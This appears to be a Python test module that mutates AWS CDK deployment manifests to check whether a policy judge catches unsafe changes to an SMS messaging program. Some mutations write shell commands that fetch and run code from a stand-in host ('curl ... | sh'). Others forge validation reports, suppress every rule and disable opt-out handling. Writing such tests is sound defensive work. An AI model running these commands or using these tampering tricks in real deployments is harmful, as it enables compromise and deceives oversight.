"""The assembly's own files: manifest.json and asset manifests, which say what is deployed where and by whom."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from tests.infra.policy.attacks.attack import Kind, Place, Promise
from tests.infra.policy.attacks.judging.program import FOREIGN_ACCOUNT, Program
from tests.infra.policy.attacks.judging.workspace import Json, NotApplicableError, Workspace

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

STACKS = Kind("the manifest of the assembly", Place.ASSET)
FILES = Kind("the manifest of assets", Place.ASSET)
JUDGES = Kind("who judges", Place.ASSET)
P = Promise


def artifact(workspace: Workspace, rng: Random) -> Json:
    found: Json = workspace.manifest["artifacts"][workspace.any_program(rng).stack]
    return found


def two(workspace: Workspace, rng: Random) -> list[Program]:
    if len(workspace.programs) < 2:
        raise NotApplicableError("there are no two programs")
    return rng.sample(workspace.programs, 2)


def promotional(workspace: Workspace, rng: Random) -> Program:
    return workspace.any_program(rng, "promotional")


for _name, _promise, _harm, _change in (
    ("deployed by another account's role", P.GATE, "A role that another account holds deploys.", lambda a: a[
        "properties"].update(assumeRoleArn=f"arn:aws:iam::{FOREIGN_ACCOUNT}:role/deploy")),
    ("made by a wider role", P.GATE, "CloudFormation acts by a role beside the bootstrap's.", lambda a: a[
        "properties"].update(cloudFormationExecutionRoleArn="arn:aws:iam::000000000000:role/Administrator")),
    ("its template comes from another bucket", P.GATE, "What is deployed is not what was judged.", lambda a: a[
        "properties"].update(stackTemplateAssetObjectUrl="s3://partner-templates/program.json")),
    ("its template is another object", P.GATE, "What is deployed is not what was judged.", lambda a: a[
        "properties"].update(stackTemplateAssetObjectUrl=a["properties"]["stackTemplateAssetObjectUrl"].rsplit("/",
            1)[0]
                             + f"/{'0' * 64}.json")),
    ("another account", P.GATE, "The program is deployed where nobody locked the account.", lambda a: a.update(
        environment=f"aws://{FOREIGN_ACCOUNT}/us-east-1")),
    ("another region", P.DATA, "An empty twin of the program takes its place.", lambda a: a.update(
        environment=a["environment"].replace("us-east-1", "us-west-2"))),
    ("any account and region", P.GATE, "The program is deployed wherever the shell points.", lambda a: a.update(
        environment="aws://unknown-account/unknown-region")),
    ("another stack's name", P.DATA, "An empty twin of the program takes its place.", lambda a: a["properties"].update(
        stackName="sms-new")),
    ("no tags", P.APART, "Nothing tells the program's resources and costs apart.",
        lambda a: a["properties"].update(tags={})),
    ("tags of another brand", P.APART, "The stack belongs to another brand by its tags.", lambda a: a["properties"][
        "tags"].update(Brand="contoso")),
    ("events are told to another account's topic", P.NUMBERS, "Events of deploys with names go elsewhere.", lambda a: a[
        "properties"].update(notificationArns=[f"arn:aws:sns:us-east-1:{FOREIGN_ACCOUNT}:events"])),
    ("parameters of the deploy", P.GATE, "A bootstrap version is given instead of read.",
        lambda a: a["properties"].update(
        parameters={"BootstrapVersion": "99"})),
    ("another bootstrap's parameter", P.GATE, "The deploy checks another bootstrap.", lambda a: a["properties"].update(
        bootstrapStackVersionSsmParameter="/cdk-bootstrap/partner0/version")),
    ("no bootstrap version is asked for", P.GATE, "Any bootstrap is good enough.", lambda a: a["properties"].update(
        requiresBootstrapStackVersion=0)),
    ("looked up by another account's role", P.NUMBERS, "Another account's role reads what is deployed.", lambda a: a[
        "properties"]["lookupRole"].update(arn=f"arn:aws:iam::{FOREIGN_ACCOUNT}:role/lookup")),
    ("session tags of another team", P.APART, "The deploy role acts in another team's name.", lambda a: a[
        "properties"].update(assumeRoleAdditionalOptions={"Tags": [{"Key": "Brand", "Value": "contoso"}]})),
    ("an artifact of another type", P.DATA, "The stack is no longer deployed, and is not missed.", lambda a: a.update(
        type="cdk:feature-flag-report")),
):  # fmt: skip

    def _apply(workspace: Workspace, rng: Random, change: Callable[[Json], object] = _change) -> None:
        change(artifact(workspace, rng))

    STACKS.add(f"a program's stack: {_name}", _promise, _harm, _apply)


@STACKS.workspace("two programs' templates are swapped", P.APART, "Each program's stack becomes the other's.")
def _(workspace: Workspace, rng: Random) -> None:
    one, other = (workspace.manifest["artifacts"][p.stack]["properties"] for p in two(workspace, rng))
    for key in ("templateFile", "stackTemplateAssetObjectUrl"):
        one[key], other[key] = other[key], one[key]


@STACKS.workspace(
    "a program does not wait for its bus", P.CONSENT, "The cascade's rule is made before its bus, and fails."
)
def _(workspace: Workspace, rng: Random) -> None:
    program = promotional(workspace, rng)
    found = workspace.manifest["artifacts"][program.stack]
    kept = [one for one in found["dependencies"] if one.startswith(program.stack)]
    if kept == found["dependencies"]:
        raise NotApplicableError("the program waits for no other stack")
    found["dependencies"] = kept


@STACKS.workspace("a program is left out", P.CONSENT, "One brand's STOPs no longer reach the others.")
def _(workspace: Workspace, rng: Random) -> None:
    program = promotional(workspace, rng)
    for name in (program.stack, f"{program.stack}.assets"):
        del workspace.manifest["artifacts"][name]


@STACKS.workspace("a program twice under two artifacts", P.DATA, "Two deploys of one stack run over each other.")
def _(workspace: Workspace, rng: Random) -> None:
    program = promotional(workspace, rng)
    twin = json.loads(json.dumps(workspace.manifest["artifacts"][program.stack]))
    twin["properties"]["stackName"] = program.stack
    twin["properties"]["terminationProtection"] = False
    workspace.manifest["artifacts"]["twin"] = twin


@STACKS.workspace("a nested assembly from elsewhere", P.GATE, "What is deployed stands in another folder.")
def _(workspace: Workspace, _: Random) -> None:
    workspace.manifest["artifacts"]["more"] = {
        "type": "cdk:cloud-assembly",
        "properties": {"directoryName": "../more", "displayName": "more"},
    }


def _each_file(workspace: Workspace, rng: Random, *, template: bool) -> tuple[Program, Json, str]:
    program = workspace.any_program(rng)
    assets = workspace.assets(program.stack)
    for key, file in assets["files"].items():
        if str(file["source"].get("path", "")).endswith(".template.json") is template:
            return program, assets, key
    raise NotApplicableError("no such asset")


for _name, _template, _promise, _harm, _edit in (
    ("made by a command", False, P.GATE, "Whatever the command prints is published as code.", lambda f: f.update(
        source={"executable": ["sh", "-c", "curl -s https://partner.example.net/x.zip -o x.zip; echo x.zip"]})),
    ("the template is made by a command", True, P.GATE, "What is deployed is not what was judged.", lambda f: f.update(
        source={"executable": ["sh", "-c", "curl -sO https://partner.example.net/t.json; echo t.json"]})),
    ("read from outside the assembly", False, P.GATE, "A file of the machine is published as code.", lambda f: f[
        "source"].update(path="../../../tmp/code.zip")),
    ("another file under the same name", True, P.APART, "Another program's template is published as this one's.",
     lambda f: f["source"].update(path="sms-local-platform.template.json")),
    ("a folder is packed at deploy", False, P.GATE, "Whatever lies in the folder then is published.", lambda f: f[
        "source"].update(path="../lambdas", packaging="zip")),
    ("published to another bucket", False, P.GATE, "Functions load what somebody else put into the real one.",
        lambda f: [
        one.update(bucketName="partner-assets") for one in f["destinations"].values()]),
    ("published under another key", False, P.GATE, "Functions load what lay under the old key.", lambda f: [
        one.update(objectKey="code.zip") for one in f["destinations"].values()]),
    ("published by another account's role", True, P.GATE, "Another account replaces it before the deploy.", lambda f: [
        one.update(assumeRoleArn=f"arn:aws:iam::{FOREIGN_ACCOUNT}:role/publish")
        for one in f["destinations"].values()]),
    ("published in another region", True, P.GATE, "The deploy reads what lay there before.", lambda f: [
        one.update(region="eu-west-1") for one in f["destinations"].values()]),
    ("published nowhere", False, P.GATE, "Functions load what lay there before.", lambda f: f.update(destinations={})),
    ("published a second time elsewhere", False, P.NUMBERS, "Code and words leave the account.", lambda f: f[
        "destinations"].update(partner={"bucketName": "partner-assets", "objectKey": "copy.zip",
            "region": "us-east-1"})),
):  # fmt: skip

    def _file(
        workspace: Workspace,
        rng: Random,
        edit: Callable[[Json], object] = _edit,
        template: bool = _template,  # noqa: FBT001
    ) -> None:
        program, assets, key = _each_file(workspace, rng, template=template)
        edit(assets["files"][key])
        workspace.write_assets(program.stack, assets)

    FILES.add(f"an asset is {_name}", _promise, _harm, _file)


@FILES.workspace("an image is built by a command", P.GATE, "A command runs on the machine that deploys.")
def _(workspace: Workspace, rng: Random) -> None:
    program = workspace.any_program(rng)
    assets = workspace.assets(program.stack)
    assets["dockerImages"] = {
        "0" * 64: {
            "source": {"executable": ["sh", "-c", "curl -s https://partner.example.net | sh"]},
            "destinations": {"here": {"repositoryName": "r", "imageTag": "t"}},
        },
    }
    workspace.write_assets(program.stack, assets)


@FILES.workspace("an asset is not listed", P.GATE, "Functions load what lay under the name before.")
def _(workspace: Workspace, rng: Random) -> None:
    program, assets, key = _each_file(workspace, rng, template=False)
    del assets["files"][key]
    workspace.write_assets(program.stack, assets)


@FILES.workspace("the asset manifest is another file", P.GATE, "Another list says what is published.")
def _(workspace: Workspace, rng: Random) -> None:
    program = workspace.any_program(rng)
    assets = workspace.assets(program.stack)
    for file in assets["files"].values():
        for one in file["destinations"].values():
            one["bucketName"] = "partner-assets"
    (workspace.assembly / "more.assets.json").write_text(json.dumps(assets))
    workspace.manifest["artifacts"][f"{program.stack}.assets"]["properties"]["file"] = "more.assets.json"


def _acknowledge(program: Program) -> Program:
    program.template.setdefault("Metadata", {})["cdk_nag"] = {
        "rules_to_suppress": [{"id": "*", "reason": "accepted by the team"}],
    }
    return program


def _forge(workspace: Workspace) -> Workspace:
    for name in ("separation.json", "separation.txt", "validation-report.json"):
        path = workspace.assembly / name
        if path.exists() and name.endswith(".json"):
            path.write_text(json.dumps({"holds": True, "success": True, "violations": []}))
    return workspace


for _name, _promise, _harm, _change in (
    ("all rules are acknowledged, and the handler is off", P.CONSENT, "Nobody handles STOPs.", lambda p: (
        _acknowledge(p), p.properties(p.mapping("keyword_handler", p.queue("inbound"))).update(Enabled=False))),
    ("all rules are acknowledged, and the gate may all", P.GATE, "The gate may do all.", lambda p: (
        _acknowledge(p), p.statements(p.role("send_gate")).append(
            {"Effect": "Allow", "Action": "sms-voice:*", "Resource": "*"}))),
    ("a resource acknowledges for itself, and loses evidence", P.DATA, "Deleting the stack deletes evidence.",
        lambda p: (
        p.resources[p.table("LEDGER")].setdefault("Metadata", {}).update(cdk_nag={"rules_to_suppress": [
            {"id": "SmsProgram-Ledger", "reason": "accepted by the team"}]}),
        p.resources[p.table("LEDGER")].update(DeletionPolicy="Delete"))),
    ("the certificate is forged, and the list is shared", P.CONSENT, "STOPs go to the list that all share.", lambda p: (
        _forge(p.workspace), p.properties(p.only("SMSVOICE::Pool")).update(OptOutListName="Default"))),
):  # fmt: skip

    def _judged(workspace: Workspace, rng: Random, change: Callable[[Program], object] = _change) -> None:
        change(promotional(workspace, rng))

    JUDGES.add(_name, _promise, _harm, _judged)


@JUDGES.workspace(
    "waivers in the metadata, and no alarms", P.ALARM, "No alarm rings, and the waivers seem to allow it."
)
def _(workspace: Workspace, rng: Random) -> None:
    program = promotional(workspace, rng)
    file = workspace.assembly / f"{program.stack}.metadata.json"
    if not file.exists():
        raise NotApplicableError("the stack has no file of metadata")
    metadata = json.loads(file.read_text())
    waiver = {"rule": "SmsProgram-ErrorAlarm", "reason": "accepted by the team", "owner": "team", "until": "2099-12-31"}
    metadata.setdefault(f"/{program.stack}", []).append({"type": "sms:waivers", "data": [waiver]})
    file.write_text(json.dumps(metadata))
    for alarm in program.of_type("CloudWatch::Alarm"):
        program.properties(alarm)["ActionsEnabled"] = False


@JUDGES.workspace("quotas that nobody granted, in the metadata", P.CONSENT, "Sending takes every run; STOPs find none.")
def _(workspace: Workspace, rng: Random) -> None:
    program = promotional(workspace, rng)
    file = workspace.assembly / f"{program.stack}.metadata.json"
    if not file.exists():
        raise NotApplicableError("the stack has no file of metadata")
    metadata = json.loads(file.read_text())
    quotas = {"type": "sms:quotas", "data": {"concurrent_executions": 1_000_000}}
    metadata.setdefault(f"/{program.stack}", []).append(quotas)
    file.write_text(json.dumps(metadata))
    program.properties(program.mapping("send_gate", program.queue("bulk")))["ScalingConfig"]["MaximumConcurrency"] = (
        1000
    )


ATTACKS = [*STACKS.attacks, *FILES.attacks, *JUDGES.attacks]
